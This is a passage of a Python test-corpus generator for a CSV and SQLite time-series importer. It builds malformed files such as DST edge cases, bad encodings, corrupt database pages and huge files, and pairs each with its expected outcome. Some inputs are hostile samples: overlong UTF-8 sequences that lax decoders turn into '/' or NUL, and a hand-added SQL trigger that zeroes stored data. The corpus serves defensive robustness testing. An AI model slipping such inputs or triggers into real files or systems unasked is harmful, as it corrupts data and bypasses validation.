    rows[20][0] = (dt.datetime(2026, 1, 14, 6, 0) + dt.timedelta(minutes=15 * 2)).strftime("%Y-%m-%d %H:%M:%S")
    c.write("timestamps_out_of_order.csv", hostile_csv(rows).encode("utf-8"))
    add_ok("timestamps_out_of_order.csv", 30, [], "Rows 10-12 swapped and row 22 carries an earlier time: imported; the audit reports the order.")

    rows = hostile_rows(30, seed=101)
    rows[7][0] = rows[6][0]
    rows[15] = list(rows[14])
    c.write("timestamps_duplicate.csv", hostile_csv(rows).encode("utf-8"))
    add_ok("timestamps_duplicate.csv", 30, [], "Two duplicate timestamps (one with different values, one an exact duplicate line): imported; the audit reports them.")

    def dst_file(name, seq, why, notes=True, checks_lines=None):
        rnd = random.Random(name)
        lines = [csv_line(H)]
        checks = {}
        for k, (t, fold) in enumerate(seq):
            st = "Stillstand" if k % 20 == 4 else "Wartung" if k % 20 == 7 else "Produktion"
            lines.append(csv_line([t.strftime("%Y-%m-%d %H:%M:%S"), fmt(184 + rnd.uniform(-2, 2), 1), fmt(3.1 + 0.05 * (k % 3) if st == "Produktion" else 0, 2),
                                   fmt(8.2 + rnd.uniform(-0.4, 0.4), 2), st]))
            if fold is not None and (checks_lines is None or k + 2 in checks_lines):
                checks[str(k + 2)] = utc_iso(berlin(t, fold))
        c.write(name, join_lines(lines).encode("utf-8"))
        exp = ok(len(seq), columns=5, time_column="Zeitstempel", rejected_lines=[], types=HOSTILE_TYPES, utc_at_lines=checks)
        if notes:
            exp["notes_contain"] = ["DST"]
        c.add(entry(name, args=TZ_ARGS, expect=exp, why=why))

    seq = [(dt.datetime(2026, 3, 29, 0, 0) + dt.timedelta(minutes=15 * k), 0) for k in range(21)]
    dst_file("dst_gap_rows.csv", seq,
             "Full local 15-min grid on 2026-03-29 including 02:00-02:45, which do not exist in Europe/Berlin: shifted forward by the gap (02:15 -> 03:15 CEST = 01:15Z) and noted, not rejected.",
             checks_lines=[9, 10, 11, 13, 14])
    seq = [(dt.datetime(2026, 10, 24, 22, 0), 0), (dt.datetime(2026, 10, 24, 23, 0), 0), (dt.datetime(2026, 10, 25, 0, 0), 0),
           (dt.datetime(2026, 10, 25, 1, 0), 0), (dt.datetime(2026, 10, 25, 2, 0), 0), (dt.datetime(2026, 10, 25, 2, 0), None),
           (dt.datetime(2026, 10, 25, 3, 0), 0), (dt.datetime(2026, 10, 25, 4, 0), 0), (dt.datetime(2026, 10, 25, 5, 0), 0),
           (dt.datetime(2026, 10, 25, 6, 0), 0)]
    dst_file("dst_repeated_hour_hourly.csv", seq,
             "Hourly local data where 02:00 appears twice on 2026-10-25 (equal, not going backwards): both rows imported and noted. The UTC of the second 02:00 is not asserted.",
             checks_lines=[2, 6, 8])
    seq = [(dt.datetime(2026, 10, 25, 0, 0) + dt.timedelta(minutes=15 * k), 0) for k in range(17)]
    dst_file("dst_repeated_hour_single_pass.csv", seq,
             "A historian that dropped the second pass of the repeated hour: 02:00-02:45 occur once and are read as the first (summer-time) pass; 03:00 is CET, 75 real minutes after 02:45.",
             checks_lines=[2, 10, 13, 14])

    rows = hostile_rows(30, seed=102)
    rows[15][0] = "9999-12-31 23:59:59"   # line 17
    rows[23][0] = "1899-12-30 00:00:00"   # line 25
    c.write("year_9999.csv", hostile_csv(rows).encode("utf-8"))
    add_ok("year_9999.csv", 30, [17, 25], "'9999-12-31 23:59:59' (historian end-of-time marker) and '1899-12-30' (Excel day zero) on the time axis are placeholders, not times a reading was taken at: rows rejected with that reason (in other date columns they are kept, see misread/).")

    rows = hostile_rows(50, start=dt.datetime(2026, 2, 27, 0, 0), step_min=60, seed=103, ts=lambda t: t.strftime("%d.%m.%Y %H:%M:%S"))
    rows[10][0] = "29.02.2026 06:00:00"   # line 12: 2026 is not a leap year
    rows[18][0] = "30.02.2026 14:00:00"   # line 20
    rows[24][0] = "28.02.2026 25:00:00"   # line 26
    rows[31][0] = "31.04.2026 07:00:00"   # line 33
    c.write("impossible_dates.csv", hostile_csv(rows).encode("utf-8"))
    add_ok("impossible_dates.csv", 50, [12, 20, 26, 33], "29.02.2026 (no leap year), 30.02., hour 25 and 31.04. are not real dates: rows rejected, the column is still a dd.mm.yyyy timestamp (46/50).",
           detected={"timestamp_format": "dmy_dot"})

    rows = hostile_rows(30, seed=104)
    rows[11][0] = "14.01.2026 08:45:00"   # line 13, other format
    c.write("timestamps_mixed_formats.csv", hostile_csv(rows).encode("utf-8"))
    add_ok("timestamps_mixed_formats.csv", 30, [13], "One dd.mm.yyyy cell in an ISO column does not parse with the detected format: rejected.",
           detected={"timestamp_format": "iso8601"})

    # ---- gzip ----------------------------------------------------------------------------------
    rows = hostile_rows(50, seed=105)
    data = hostile_csv(rows).encode("utf-8")
    c.write("gzip_valid.csv.gz", gzip.compress(data, 9, mtime=0))
    add_ok("gzip_valid.csv.gz", 50, [], "A valid gzip is imported like the plain file.", detected={"gzip": True})
    c.write("gzip_named_csv.csv", gzip.compress(data, 9, mtime=0))
    add_ok("gzip_named_csv.csv", 50, [], "Gzip data with a plain .csv name: detected by the magic bytes, not the extension.", detected={"gzip": True})

    # ---- encodings -----------------------------------------------------------------------------
    rows = hostile_rows(25, seed=106, dec=",")
    c.write("utf16le_no_bom.csv", hostile_csv(rows, delim=";", eol="\r\n").encode("utf-16-le"))
    add_ok("utf16le_no_bom.csv", 25, [], "UTF-16LE without BOM (detected from NUL bytes), semicolon, decimal comma, CRLF.",
           detected={"encoding": "UTF-16LE", "delimiter": ";", "decimal_mark": ","})
    rows = hostile_rows(25, seed=107)
    c.write("utf16be_bom.csv", b"\xfe\xff" + hostile_csv(rows, delim="\t").encode("utf-16-be"))
    add_ok("utf16be_bom.csv", 25, [], "UTF-16BE with BOM, TAB separated.", detected={"encoding_starts_with": "UTF-16BE", "delimiter": "\t"})

    rows = hostile_rows(25, seed=108)
    for k, r in enumerate(rows):
        r[4] = ["Produktion", "Störung", "Wartung", "Stillstand"][k % 4]
    text = hostile_csv(rows, header=["Zeitstempel", "Ofentemperatur [°C]", "Bandgeschwindigkeit [m/min]", "Energie [kWh]", "Status"])
    c.write("invalid_utf8_is_cp1252.csv", text.encode("cp1252"))
    add_ok("invalid_utf8_is_cp1252.csv", 25, [], "Bytes B0 (°) and F6 (ö) are invalid UTF-8: the file is read as Windows-1252, giving '°C' and 'Störung'.",
           detected={"encoding": "Windows-1252"}, units={"Ofentemperatur": "°C"}, levels_contain={"Status": ["Störung"]})

    rows = hostile_rows(25, seed=109)
    rows[12][4] = "Stör\udcb0ung"  # placeholder, replaced below by a raw byte
    text = hostile_csv(rows).encode("utf-8", "surrogateescape")
    c.write("utf8_with_one_invalid_byte.csv", text)
    add_ok("utf8_with_one_invalid_byte.csv", 25, [], "A UTF-8 file (°C as C2 B0) with one stray byte B0 on line 14: the whole file is not UTF-8, so it is read as Windows-1252 (the header unit becomes 'Â°C'); nothing is rejected.",
           detected={"encoding": "Windows-1252"})

    rows = hostile_rows(25, seed=110)
    overlong = [b"A\xc0\xafB", b"\xe0\x80\xafslash", b"\xf0\x80\x80\xafx", b"nul\xc0\x80", b"sur\xed\xa0\x80rogate"]
    lines = [("Zeitstempel,Ofentemperatur [degC],Bandgeschwindigkeit [m/min],Energie [kWh],Status").encode("ascii")]
    for k, r in enumerate(rows):
        state = overlong[k % 5] if k % 3 == 0 else r[4].encode("ascii")
        lines.append(",".join(r[:4]).encode("ascii") + b"," + state)
    c.write("overlong_utf8.csv", b"\n".join(lines) + b"\n")
    add_ok("overlong_utf8.csv", 25, [], "Overlong UTF-8 sequences (C0 AF, E0 80 AF, F0 80 80 AF, C0 80) and an encoded surrogate (ED A0 80) are invalid UTF-8: the file is read as Windows-1252, nothing is decoded to '/' or NUL.",
           detected={"encoding": "Windows-1252"})

    # BOM in the middle: two exports concatenated with `cat`
    a = hostile_csv(hostile_rows(15, seed=111))
    b = hostile_csv(hostile_rows(15, start=dt.datetime(2026, 1, 14, 9, 45), seed=112))
    c.write("bom_in_middle_concatenated.csv", b"\xef\xbb\xbf" + a.encode("utf-8") + b"\xef\xbb\xbf" + b.encode("utf-8"))
    add_ok("bom_in_middle_concatenated.csv", 31, [17], "Two BOM-prefixed exports joined with cat: line 17 is a second header behind a BOM; it is not data and is rejected, 30 rows imported.")

    rows = hostile_rows(60, seed=113)
    lines = [csv_line(H)]
    for k, r in enumerate(rows):
        if k and k % 20 == 0:
            lines.append(csv_line(H))
        lines.append(csv_line(r))
    c.write("repeated_header_lines.csv", join_lines(lines).encode("utf-8"))
    add_ok("repeated_header_lines.csv", 62, [22, 43], "Paged export that repeats the header every 20 rows: lines 22 and 43 are rejected.")

    # ---- line ends -----------------------------------------------------------------------------
    rows = hostile_rows(30, seed=114)
    body = [csv_line(H)] + [csv_line(r) for r in rows]
    text = "".join(l + ("\r\n" if i % 3 == 1 else "\n") for i, l in enumerate(body))
    c.write("mixed_line_endings.csv", text.encode("utf-8"))
    add_ok("mixed_line_endings.csv", 30, [], "LF file in which every third line ends in CRLF (edited on two systems).")

    rows = hostile_rows(30, seed=115)
    body = [csv_line(H)] + [csv_line(r) for r in rows]
    text = join_lines(body[:26]) + "\r" + join_lines(body[26:])
    c.write("lone_cr_line_start.csv", text.encode("utf-8"))
    add_ok("lone_cr_line_start.csv", 30, [], "A lone CR at the start of line 27 in an LF file (a CR-terminated empty line, or a leading CR that trimming removes): no row lost, nothing rejected.")

    rows = hostile_rows(30, seed=116)
    c.write("lone_cr_at_eof.csv", (hostile_csv(rows) + "\r").encode("utf-8"))
    add_ok("lone_cr_at_eof.csv", 30, [], "The file ends with an extra lone CR after the last LF.")

    rows = qrows(20, 117)
    rows[15][5] = "Sensor\rgetauscht"
    c.write("lone_cr_in_quoted_field.csv", hostile_csv(rows, header=QH).encode("utf-8"))
    add_ok("lone_cr_in_quoted_field.csv", 20, [], "A lone CR inside a quoted comment: part of the value, not a line end.", types=QT, columns=6)

    rows = hostile_rows(30, seed=118)
    lines = [csv_line(H)] + [csv_line(r) for r in rows]
    lines[9:9] = ["", ""]
    lines[21:21] = [""]
    c.write("blank_lines_middle.csv", join_lines(lines).encode("utf-8"))
    add_ok("blank_lines_middle.csv", 30, [], "Empty lines 10, 11 and 22 between data rows are skipped (not rows, not rejected).")

    rows = hostile_rows(30, seed=119)
    c.write("no_trailing_newline.csv", hostile_csv(rows, final_eol=False).encode("utf-8"))
    add_ok("no_trailing_newline.csv", 30, [], "The last row has no line end and is still a row.")

    rows = hostile_rows(30, seed=120)
    text = hostile_csv(rows[:-1]) + ",".join(rows[-1][:3])
    c.write("truncated_last_line.csv", text.encode("utf-8"))
    add_ok("truncated_last_line.csv", 30, [31], "Export interrupted mid-row: line 31 has 3 of 5 fields and no line end; rejected.")


def huge_specs():
    """(generate spec, expect, why) for the files that are not stored."""
    out = []
    spec = {"kind": "long_line", "name": "long_line_10mb.csv", "bytes": 10 * 1024 * 1024, "pattern": "Messwert_"}
    out.append((spec, fail3("long_line_10mb.csv"),
                "A 10 MiB single line with no line end and no delimiter: header only, no data rows -> exit 3 (and no hang / no quadratic time)."))
    spec = {"kind": "wide", "name": "wide_10000_columns.csv", "columns": 10000, "rows": 5}
    out.append((spec, ok(5, 0, columns=10000, time_column="Zeitstempel"), "10,000 columns (9,999 sensors + time): imported."))
    spec = {"kind": "long_field", "name": "long_field_1mb.csv", "rows": 20, "field_row": 10, "field_bytes": 1024 * 1024}
    out.append((spec, ok(20, 0, columns=3, time_column="Zeitstempel", rejected_lines=[],
                         types={"Zeitstempel": "timestamp", "Ofentemperatur": "numeric", "Bemerkung": "categorical"}),
                "One 1 MiB comment cell (quoted) in row 10 of 20: imported as a categorical value."))
    spec = {"kind": "tall", "name": "tall_2m_rows.csv", "rows": 2000000}
    out.append((spec, ok(2000000, 0, columns=3, time_column="Timestamp", rejected_lines=[]),
                "2,000,000 rows at 1 s steps: imported with bounded memory and progress."))
    return out


def generate_huge(spec: dict) -> bytes:
    kind = spec["kind"]
    if kind == "long_line":
        pat = spec["pattern"].encode("utf-8")
        n = spec["bytes"]
        return (pat * (n // len(pat) + 1))[:n]
    if kind == "wide":
        cols, rows = spec["columns"], spec["rows"]
        out = io.StringIO()
        out.write("Zeitstempel" + "".join(f",Sensor_{i:04d} [°C]" for i in range(1, cols)) + "\n")
        for r in range(1, rows + 1):
            t = dt.datetime(2026, 1, 14, 0, 0) + dt.timedelta(minutes=r - 1)
            out.write(t.strftime("%Y-%m-%d %H:%M:%S") + "".join(f",{(i % 97) + r}.5" for i in range(1, cols)) + "\n")
        return out.getvalue().encode("utf-8")
    if kind == "long_field":
        out = io.StringIO()
        out.write("Zeitstempel,Ofentemperatur [°C],Bemerkung\n")
        for r in range(1, spec["rows"] + 1):
            t = dt.datetime(2026, 1, 14, 0, 0) + dt.timedelta(minutes=r - 1)
            note = '"' + "A" * spec["field_bytes"] + '"' if r == spec["field_row"] else "ok"
            out.write(f"{t.strftime('%Y-%m-%d %H:%M:%S')},{180 + r % 10}.5,{note}\n")
        return out.getvalue().encode("utf-8")
    if kind == "tall":
        parts = ["Timestamp,Furnace temperature [°C],Line speed [m/min]\n"]
        t0 = dt.datetime(2026, 1, 1, 0, 0)
        for r in range(spec["rows"]):
            t = t0 + dt.timedelta(seconds=r)
            parts.append(f"{t.strftime('%Y-%m-%d %H:%M:%S')},{180 + (r % 100) / 10:.1f},{3 + (r % 7) / 10:.1f}\n")
        return "".join(parts).encode("utf-8")
    raise ValueError(kind)


# ---- .twin project files ---------------------------------------------------------------------


def build_twins(c: Corpus) -> None:
    root = c.root

    def sqlite_bytes(setup) -> bytes:
        with tempfile.TemporaryDirectory() as d:
            p = Path(d) / "x.sqlite"
            con = sqlite3.connect(p)
            con.execute("PRAGMA page_size=4096")
            con.execute("PRAGMA journal_mode=DELETE")
            setup(con)
            con.commit()
            con.execute("VACUUM")
            con.close()
            return p.read_bytes()

    twin_expect = lambda name, *more: {"exit": 5, "message_contains": [name, *more], "unchanged": True}
    # Every command that opens a project belongs here; simulate joins when it exists.
    cmds = ["audit", "fit", "import"]

    c.write("not_sqlite.twin", join_lines(["Zeitstempel,Ofentemperatur [°C]", "2026-01-14 06:00:00,184.2"]).encode("utf-8"))
    c.add(entry("not_sqlite.twin", kind="twin", expect=twin_expect("not_sqlite.twin"), commands=cmds,
                why="A CSV file renamed to .twin: not SQLite; exit 5 naming the file, file untouched."))

    def foreign(con):
        con.execute("CREATE TABLE customers (id INTEGER PRIMARY KEY, name TEXT, city TEXT)")
        con.executemany("INSERT INTO customers(name, city) VALUES (?, ?)", [(f"Kunde {i}", "Ulm") for i in range(50)])
        con.execute("CREATE TABLE orders (id INTEGER PRIMARY KEY, customer INTEGER, total REAL)")
    c.write("foreign_sqlite.twin", sqlite_bytes(foreign))
    c.add(entry("foreign_sqlite.twin", kind="twin", expect=twin_expect("foreign_sqlite.twin"), commands=cmds,
                why="A valid SQLite database of another application (customers/orders, user_version 0): not a Twinbench project, not modified (no tables added)."))

    def newer(con):
        con.execute("CREATE TABLE meta (key TEXT PRIMARY KEY, value TEXT)")
        con.executemany("INSERT INTO meta VALUES (?, ?)", [("application", "twinbench"), ("schema_version", "999")])
        con.execute("CREATE TABLE datasets (id INTEGER PRIMARY KEY, name TEXT NOT NULL UNIQUE, time_zone TEXT)")
        con.execute("INSERT INTO datasets(name, time_zone) VALUES ('historian', 'Europe/Berlin')")
        con.execute("CREATE TABLE future_feature (id INTEGER PRIMARY KEY, payload BLOB)")
        con.execute("PRAGMA user_version=999")
    c.write("newer_schema.twin", sqlite_bytes(newer))
    c.add(entry("newer_schema.twin", kind="twin", expect=twin_expect("newer_schema.twin"), commands=cmds,
                why="Twinbench-like file with PRAGMA user_version = 999 (from a newer Twinbench): refused with exit 5, never migrated or written."))

    def corrupt_base(con):
        con.execute("CREATE TABLE meta (key TEXT PRIMARY KEY, value TEXT)")
        con.execute("INSERT INTO meta VALUES ('application', 'twinbench')")
        con.execute("CREATE TABLE samples (id INTEGER PRIMARY KEY, t REAL, furnace_temp REAL, note TEXT)")
        rnd = random.Random(130)
        con.executemany("INSERT INTO samples(t, furnace_temp, note) VALUES (?, ?, ?)",
                        [(1768370400 + 60 * i, 184 + rnd.uniform(-2, 2), "x" * 40) for i in range(1500)])
        con.execute("PRAGMA user_version=1")
    data = bytearray(sqlite_bytes(corrupt_base))
    pages = len(data) // 4096
    mid = pages // 2
    garbage = random.Random(131).randbytes(4096)
    data[mid * 4096:(mid + 1) * 4096] = garbage
    c.write("corrupt_page.twin", bytes(data))
    c.add(entry("corrupt_page.twin", kind="twin", expect=twin_expect("corrupt_page.twin"), commands=cmds,
                corrupt_page=mid + 1, page_count=pages,
                why=f"Valid SQLite file ({pages} pages of 4096 bytes, user_version 1) whose page {mid + 1} was overwritten with random bytes: 'database disk image is malformed' must become exit 5, file untouched."))

    # The stored files above are SQLite but not the real Twinbench schema, so a project
    # check may refuse them before it meets the damage. These two runtime recipes damage a
    # real project written by the CLI (see README, "generate" kinds for .twin files).
    c.add(entry(generate={"kind": "corrupt_project", "name": "corrupt_project.twin",
                          "source_csv": "import/historian_2026-01.csv", "page": "middle", "fill_byte": 165},
                kind="twin", expect=twin_expect("corrupt_project.twin"), commands=cmds,
                why="A real project (created by importing historian_2026-01.csv) with its middle page overwritten by 0xA5 bytes: exit 5, file untouched afterwards."))
    c.add(entry(generate={"kind": "truncated_project", "name": "truncated_project.twin",
                          "source_csv": "import/historian_2026-01.csv", "keep_fraction": 0.5},
                kind="twin", expect=twin_expect("truncated_project.twin"), commands=cmds,
                why="A real project cut to half its pages (copy interrupted): exit 5, file untouched afterwards."))

    # A real project edited by hand with the plain SQLite shell: a trigger that would rewrite
    # every imported furnace temperature, and a view; Twinbench creates neither, so the file
    # is refused before anything runs (see README, "tampered_project").
    c.add(entry(generate={"kind": "tampered_project", "name": "trigger_in_project.twin",
                          "source_csv": "import/historian_2026-01.csv",
                          "sql": "CREATE TRIGGER rewrite_values AFTER INSERT ON column_chunk BEGIN "
                                 "UPDATE column_chunk SET data = zeroblob(length(data)) "
                                 "WHERE column_id = NEW.column_id AND first_row = NEW.first_row; END"},
                kind="twin", expect=twin_expect("trigger_in_project.twin", "trigger 'rewrite_values'"),
                commands=cmds,
                why="A real project with a trigger added by hand that would zero every chunk the next import writes: exit 5 naming the file and the trigger, file untouched."))
    c.add(entry(generate={"kind": "tampered_project", "name": "view_in_project.twin",
                          "source_csv": "import/historian_2026-01.csv",
                          "sql": "CREATE VIEW model_summary AS SELECT kind, length(spec_json) AS bytes FROM model"},
                kind="twin", expect=twin_expect("view_in_project.twin", "view 'model_summary'"),
                commands=cmds,
                why="A real project with a view added by hand: refused (exit 5 naming the view), file untouched."))

    data = sqlite_bytes(corrupt_base)
    c.write("truncated.twin", data[: len(data) // 2])
    c.add(entry("truncated.twin", kind="twin", expect=twin_expect("truncated.twin"), commands=cmds,
                why="A project file cut in half (copy interrupted): exit 5, file untouched."))


# ========================================================================================
# reference reader (for --check): an independent reading of the importer contract
# ========================================================================================

MISSING = {"", "NA", "N/A", "#N/A", "#NV", "NaN", "null", "NULL", "-", "--", "?"}
BOOL_PAIRS = [{"0", "1"}, {"true", "false"}, {"yes", "no"}, {"ja", "nein"}]
NUM_RE = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")
INF_RE = re.compile(r"^[+-]?(inf|infinity)$", re.I)


class Fail(Exception):
    pass


def decode_bytes(data: bytes):
    gz = False
    if data[:2] == b"\x1f\x8b":
        try:
            data = gzip.decompress(data)
        except Exception as e:  # noqa: BLE001
            raise Fail(f"gzip: {e}")
        gz = True
    if not data:
        raise Fail("empty")
    if data.startswith(b"\xef\xbb\xbf"):
        return data[3:].decode("utf-8"), "UTF-8 with BOM", gz
    if data.startswith(b"\xff\xfe"):
        return data[2:].decode("utf-16-le"), "UTF-16LE", gz
    if data.startswith(b"\xfe\xff"):
        return data[2:].decode("utf-16-be"), "UTF-16BE", gz
    sample = data[:4096]
    half = len(sample) // 2
    if half >= 2:
        odd_nul = sum(1 for i in range(1, len(sample), 2) if sample[i] == 0)
        even_nul = sum(1 for i in range(0, len(sample), 2) if sample[i] == 0)
        if odd_nul > 0.4 * half and even_nul < 0.05 * half:
            return data.decode("utf-16-le"), "UTF-16LE", gz
    ctrl = sum(1 for b in sample if b < 0x20 and b not in (9, 10, 13, 11, 12, 27, 1, 7, 8))
    if ctrl > 0.05 * len(sample):
        raise Fail("binary")
    try:
        return data.decode("utf-8"), "UTF-8", gz
    except UnicodeDecodeError:
        return "".join(bytes([b]).decode("cp1252", errors="replace") if b in (0x81, 0x8D, 0x8F, 0x90, 0x9D) else bytes([b]).decode("cp1252") for b in data), "Windows-1252", gz


def tokenize(text: str, delim: str):
    """Records as (start_line, fields, unterminated, has_nul, blank)."""
    recs = []
    i, n, line = 0, len(text), 1
    while i < n:
        start = line
        fields, field, inq, at_start, raw_start = [], [], False, True, i
        ended = False
        while i < n:
            ch = text[i]
            if inq:
                if ch == '"':
                    if i + 1 < n and text[i + 1] == '"':
                        field.append('"')
                        i += 2
                        continue
                    inq = False
                    i += 1
                    continue
                if ch == "\r":
                    line += 1
                    if i + 1 < n and text[i + 1] == "\n":
                        field.append("\r\n")
                        i += 2
                        continue
                elif ch == "\n":
                    line += 1
                field.append(ch)
                i += 1
                continue
            if ch == '"' and at_start:
                inq, at_start = True, False
                i += 1
                continue
            if ch == delim:
                fields.append("".join(field))
                field, at_start = [], True
                i += 1
                continue
            if ch in "\r\n":
                raw_end = i
                i += 2 if (ch == "\r" and i + 1 < n and text[i + 1] == "\n") else 1
                line += 1
                ended = True
                break
            field.append(ch)
            at_start = False
            i += 1
        if not ended:
            raw_end = i
        fields.append("".join(field))
        raw = text[raw_start:raw_end]
        blank = raw.strip() == ""
        recs.append((start, fields, inq, "\x00" in raw, blank))
    return recs


TS_FORMATS = {
    "iso8601": re.compile(r"^(\d{4})-(\d{2})-(\d{2})[T ](\d{2}):(\d{2})(?::(\d{2})(?:\.(\d{1,6}))?)?(Z|[+-]\d{2}:?\d{2})?$"),
    "dmy_dot": re.compile(r"^(\d{1,2})\.(\d{1,2})\.(\d{4}) (\d{1,2}):(\d{2})(?::(\d{2}))?$"),
    "slash": re.compile(r"^(\d{1,2})/(\d{1,2})/(\d{4}) (\d{1,2}):(\d{2})(?::(\d{2}))?(?: ?([AP]M))?$"),
    "dmy_dash": re.compile(r"^(\d{1,2})-(\d{1,2})-(\d{4}) (\d{1,2}):(\d{2})(?::(\d{2}))?$"),
    "ymd_slash": re.compile(r"^(\d{4})/(\d{1,2})/(\d{1,2}) (\d{1,2}):(\d{2})(?::(\d{2}))?$"),
    "epoch_seconds": re.compile(r"^\d{9,10}$"),
    "epoch_millis": re.compile(r"^\d{12,13}$"),
}


def parse_ts(cell: str, f: str, dayfirst=True):
    """-> (naive_or_aware datetime, structurally_ok) or None."""
    s = cell.strip()
    m = TS_FORMATS["slash" if f in ("dmy_slash", "mdy_slash") else f].match(s)
    if not m:
        return None
    g = m.groups()
    try:
        if f == "epoch_seconds":
            return dt.datetime.fromtimestamp(int(s), UTC)
        if f == "epoch_millis":
            return dt.datetime.fromtimestamp(int(s) / 1000, UTC)
        if f == "iso8601":
            y, mo, d, hh, mi = map(int, g[:5])
            ss = int(g[5] or 0)
            us = int((g[6] or "0").ljust(6, "0"))
            tz = None
            if g[7]:
                tz = UTC if g[7] == "Z" else dt.timezone(dt.timedelta(hours=int(g[7][:3]), minutes=int(g[7][-2:]) * (1 if g[7][0] == "+" else -1)))
        elif f == "ymd_slash":
            y, mo, d, hh, mi = map(int, g[:5]); ss = int(g[5] or 0); us = 0; tz = None
        else:
            a, b, y, hh, mi = map(int, g[:5]); ss = int(g[5] or 0); us = 0; tz = None
            if f == "mdy_slash":
                mo, d = a, b
                if len(g) > 6 and g[6]:
                    if not 1 <= hh <= 12:
                        return None
                    hh = (hh % 12) + (12 if g[6] == "PM" else 0)
            else:
                d, mo = a, b
        extra = dt.timedelta(0)
        if hh == 24 and mi == 0 and ss == 0:
            hh, extra = 0, dt.timedelta(days=1)
        if y < 1 or y > 9999:
            return None
        return dt.datetime(y, mo, d, hh, mi, ss, us, tzinfo=tz) + extra
    except ValueError:
        return None


def detect_ts(cells):
    vals = [c.strip() for c in cells if c.strip() not in MISSING]
    if not vals:
        return None
    best = None
    for f in ["iso8601", "dmy_dot", "dmy_slash", "mdy_slash", "dmy_dash", "ymd_slash", "epoch_seconds", "epoch_millis"]:
        cnt = sum(1 for v in vals if parse_ts(v, f) is not None)
        if cnt / len(vals) >= 0.9 and (best is None or cnt > best[1]):
            best = (f, cnt)
    if best and best[0] in ("dmy_slash", "mdy_slash"):
        firsts = [int(v.split("/")[0]) for v in vals if TS_FORMATS["slash"].match(v)]
        seconds_ = [int(v.split("/")[1]) for v in vals if TS_FORMATS["slash"].match(v)]
        ampm = any(v.endswith("M") for v in vals)
        f = "mdy_slash" if (ampm or max(seconds_) > 12) else "dmy_slash" if max(firsts) > 12 else "dmy_slash"
        cnt = sum(1 for v in vals if parse_ts(v, f) is not None)
        best = (f, cnt) if cnt / len(vals) >= 0.9 else None
    return best[0] if best else None


# Thousands grouped by threes with one separator that is not the decimal mark (space and
# the no-break spaces count as one kind, so do the apostrophes).
GROUP_SEPARATORS = {",": ",", ".": ".", " ": " \u00a0\u202f\u2009", "'": "'\u2019"}


def plain_number(s, dec):
    """The cell as Python reads a float ('1234.5'), or None when it is not a number."""
    s = s.strip()
    plain = s.replace(",", ".") if dec == "," and "." not in s else (s if dec == "." else "x")
    if NUM_RE.match(plain):
        return plain
    for kind, chars in GROUP_SEPARATORS.items():
        if kind == dec:
            continue
        sep = "[" + re.escape(chars) + "]"
        m = re.match(r"^([+-]?)([1-9]\d{0,2})((?:" + sep + r"\d{3})+)(?:" + re.escape(dec) + r"(\d*))?$", s)
        if m and len(set(re.findall(sep, m.group(3)))) == 1:
            return m.group(1) + m.group(2) + re.sub(sep, "", m.group(3)) + ("." + m.group(4) if m.group(4) is not None else "")
    return None


def is_num(s, dec):
    return plain_number(s, dec) is not None or bool(INF_RE.match(s.strip()))


def num_val(s, dec):
    return float(plain_number(s, dec))


def reference_read(files, tzname="Europe/Berlin"):
    """Returns dict: rows_imported, rows_rejected, rejected_lines (of the last file),
    columns, time_column, types, names, units, missing, utc (line->iso), detected ..."""
    total_imp = total_rej = 0
    per = None
    for path in files:
        if not Path(path).exists():
            raise Fail("missing")
        data = Path(path).read_bytes()
        text, enc, gz = decode_bytes(data)
        if text.strip() == "":
            raise Fail("whitespace")
        best = None
        for d in [",", ";", "\t", "|"]:
            recs = [r for r in tokenize(text, d) if not r[4]]
            counts = [len(r[1]) for r in recs]
            modal = max(set(counts), key=counts.count)
            share = counts.count(modal) / len(counts)
            if modal > 1 and (best is None or share > best[2]):
                best = (d, modal, share)
        delim, width = (best[0], best[1]) if best else (",", 1)
        recs = [r for r in tokenize(text, delim) if not r[4]]
        hi = next(i for i, r in enumerate(recs) if len(r[1]) == width)
        header = recs[hi]
        has_header = not all(NUM_RE.match(f.strip()) for f in header[1])
        data_recs = recs[hi + 1:] if has_header else recs[hi:]
        if not data_recs:
            raise Fail("no data rows")
        dec = "."
        if delim != ",":
            cells = [f for r in data_recs for f in r[1]]
            if sum(1 for x in cells if re.match(r"^[+-]?\d+,\d+$", x.strip())) > sum(1 for x in cells if re.match(r"^[+-]?\d+\.\d+$", x.strip())):
                dec = ","
        names = []
        units = {}
        for i, h in enumerate(header[1] if has_header else [""] * width):
            nm, un = split_unit(h)
            if not nm:
                nm = f"column_{i + 1}"
            base, k = nm, 2
            while nm in names:
                nm = f"{base} ({k})"
                k += 1
            names.append(nm)
            units[nm] = un
        rejected = {}
        good = []
        for r in data_recs:
            if r[2]:
                rejected[r[0]] = "unterminated quote"
            elif r[3]:
                rejected[r[0]] = "NUL"
            elif len(r[1]) != width:
                rejected[r[0]] = "ragged"
            else:
                good.append(r)
        types, tsfmt = {}, {}
        for ci, nm in enumerate(names):
            cells = [r[1][ci].strip() for r in good]
            nonmiss = [x for x in cells if x not in MISSING]
            f = detect_ts(nonmiss) if nonmiss else None
            if f:
                types[nm], tsfmt[nm] = "timestamp", f
            elif nonmiss and sum(1 for x in nonmiss if is_num(x, dec)) / len(nonmiss) >= 0.9:
                vals = set(nonmiss)
                types[nm] = "boolean" if vals == {"0", "1"} else "numeric"
            elif any(set(nonmiss) == p for p in BOOL_PAIRS):
                types[nm] = "boolean"
            else:
                types[nm] = "categorical"
        missing = {nm: 0 for nm in names}
        for r in good:
            for ci, nm in enumerate(names):
                x = r[1][ci].strip()
                if x in MISSING:
                    missing[nm] += 1
                    continue
                if types[nm] == "numeric":
                    if not is_num(x, dec) or INF_RE.match(x) or not math.isfinite(num_val(x, dec)):
                        rejected.setdefault(r[0], "non-numeric")
                elif types[nm] == "timestamp":
                    t = parse_ts(x, tsfmt[nm])
                    if t is None or not 1900 <= t.year <= 2200:
                        rejected.setdefault(r[0], "timestamp")
        imported = [r for r in good if r[0] not in rejected]
        missing = {nm: sum(1 for r in imported if r[1][ci].strip() in MISSING) for ci, nm in enumerate(names)}
        if not imported:
            raise Fail("no usable rows")
        time_col = next((nm for nm in names if types[nm] == "timestamp"), None)
        utc = {}
        if time_col:
            ci = names.index(time_col)
            prev = None
            ts_list = [parse_ts(r[1][ci], tsfmt[time_col]) for r in imported]
            if all(t.tzinfo is None for t in ts_list) and len(ts_list) > 2:
                diffs = sorted((b - a).total_seconds() for a, b in zip(ts_list, ts_list[1:]))
                step = diffs[len(diffs) // 2]
                for i in range(1, len(ts_list)):  # fix_end_of_day_midnights
                    t = ts_list[i]
